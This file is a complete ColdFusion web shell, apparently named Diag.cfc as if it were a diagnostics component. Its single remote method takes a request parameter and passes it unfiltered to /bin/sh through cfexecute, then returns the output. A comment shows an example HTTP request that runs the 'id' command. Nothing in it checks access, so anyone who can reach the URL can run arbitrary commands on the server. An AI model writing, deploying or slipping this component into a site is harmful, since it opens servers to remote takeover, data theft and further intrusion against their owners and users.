<!--- A component whose remote method runs the command it is called with:
      GET /Diag.cfc?method=run&c=id --->
<cfcomponent>
    <cffunction name="run" access="remote" returntype="string" returnformat="plain">
        <cfargument name="c" type="string" required="true">
        <cfexecute name="/bin/sh" arguments="-c '#arguments.c#'" variable="local.out" timeout="10"></cfexecute>
        <cfreturn local.out>
    </cffunction>
</cfcomponent>
